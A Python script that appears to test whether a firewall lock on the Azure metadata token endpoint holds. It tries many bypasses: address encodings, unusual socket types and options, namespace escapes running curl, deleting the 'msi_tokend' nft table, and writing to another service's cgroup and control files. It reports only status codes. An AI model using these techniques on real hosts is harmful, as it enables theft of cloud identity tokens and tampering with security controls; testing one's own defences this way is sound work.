"""Ways around the lock, tried as the user that runs this: prints what each came to, as JSON.

A status is the answer's to a token request, as bytes on the connection at hand; a word is the error.
"""

import errno
import json
import socket
import subprocess

SERVICE = ("169.254.169.254", 80)
REQUEST = (b"GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://storage.azure.com/ HTTP/1.1\r\n"
           b"Host: 169.254.169.254\r\nMetadata: true\r\nConnection: close\r\n\r\n")
# <linux/in.h>, <asm-generic/socket.h>
IP_TRANSPARENT, SO_MARK, SO_BINDTODEVICE, IPPROTO_MPTCP, MSG_FASTOPEN, AF_SMC = 19, 36, 25, 262, 0x20000000, 43
# A loose source route by way of the gateway (RFC 791, 3.1), after one byte of padding.
SOURCE_ROUTE = bytes([1, 131, 7, 4, 10, 0, 0, 1])


def ask(connection):
    connection.sendall(REQUEST)
    return answer(connection)


def answer(connection):
    text = connection.recv(65536)
    return int(text.split()[1]) if text else "closed"


def attempt(function):
    try:
        return function()
    except TimeoutError:
        return "hangs"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def stream(family=socket.AF_INET, protocol=0, kind=socket.SOCK_STREAM):
    made = socket.socket(family, kind, protocol)
    made.settimeout(5)
    return made


def with_option(level, option, value, to=SERVICE):
    def dial():
        with stream() as connection:
            connection.setsockopt(level, option, value)
            connection.connect(to)
            return ask(connection)
    return dial


def dialled(to, **how):
    def dial():
        with stream(**how) as connection:
            connection.connect(to)
            return ask(connection)
    return dial


def fast_open():
    with stream() as connection:
        # Else the call does not wait for the connection.
        connection.settimeout(None)
        connection.sendto(REQUEST, MSG_FASTOPEN, SERVICE)
        return answer(connection)


def datagram(port):
    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.settimeout(5)
            sender.connect((SERVICE[0], port))
            sender.send(b"x")
            return f"sent {len(sender.recv(1))}"
    return send


def made(*arguments):
    def make():
        socket.socket(*arguments).close()
        return "made"
    return make


def bound(address):
    def bind():
        with stream() as listener:
            listener.bind(address)
            return "bound"
    return bind


def written(path):
    def write():
        with open(path, "w") as file:
            file.write("0")
        return "written"
    return write


def ran(*command):
    def run():
        done = subprocess.run(command, capture_output=True, text=True, timeout=30)
        return done.stdout if done.returncode == 0 else "failed"
    return run


CURL = ["curl", "--silent", "--max-time", "10", "--header", "Metadata: true", "--output", "/dev/null", "--write-out", "%{http_code}",
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://storage.azure.com/"]
ATTEMPTS = {
    "plainly": dialled(SERVICE),
    "by the number": dialled(("2852039166", 80)),
    "mapped into IPv6": dialled(("::ffff:169.254.169.254", 80), family=socket.AF_INET6),
    "MPTCP": dialled(SERVICE, protocol=IPPROTO_MPTCP),
    "SMC": dialled(SERVICE, family=AF_SMC),
    "fast open": fast_open,
    "the probe's mark": with_option(socket.IPPROTO_IP, socket.IP_TOS, 0xFC),
    "firewall mark": with_option(socket.SOL_SOCKET, SO_MARK, 1),
    "transparent": with_option(socket.IPPROTO_IP, IP_TRANSPARENT, 1),
    "source route": with_option(socket.IPPROTO_IP, socket.IP_OPTIONS, SOURCE_ROUTE),
    "bound to the interface": with_option(socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0\0"),
    "bound to loopback": with_option(socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo\0"),
    "port 443": dialled((SERVICE[0], 443)),
    "port 8080": dialled((SERVICE[0], 8080)),
    "UDP 80": datagram(80),
    "UDP 53": datagram(53),
    "the listener": dialled(("127.0.0.1", 169)),
    "the listener's port": bound(("127.0.0.1", 169)),
    "raw socket": made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
    "packet socket": made(socket.AF_PACKET, socket.SOCK_RAW, 0x0003),
    "user namespace": ran("unshare", "--user", "--map-root-user", *CURL),
    "user and network namespace": ran("unshare", "--user", "--map-root-user", "--net", *CURL),
    "nft": ran("nft", "delete", "table", "ip", "msi_tokend"),
    "nft in a user namespace": ran("unshare", "--user", "--map-root-user", "nft", "delete", "table", "ip", "msi_tokend"),
    "another unit's group": written("/sys/fs/cgroup/system.slice/msi-tokend.service/cgroup.procs"),
    "a request for the rules": written("/run/msi-tokend/lock-lost"),
    "which rules are loaded": written("/run/msi-tokend-lock/mode"),
}

print(json.dumps({name: attempt(function) for name, function in ATTEMPTS.items()}))
